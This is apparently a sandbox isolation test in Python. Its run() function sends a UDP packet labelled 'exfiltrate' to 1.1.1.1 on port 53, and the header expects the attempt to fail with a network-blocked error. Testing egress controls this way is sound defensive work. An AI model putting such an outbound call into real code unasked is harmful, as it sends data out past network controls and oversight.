# verdict: error
# expect: Network is unreachable|Operation not permitted|Address family not supported
import socket


def run():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"exfiltrate", ("1.1.1.1", 53))
    return [3, 1, 4, 1, 5]
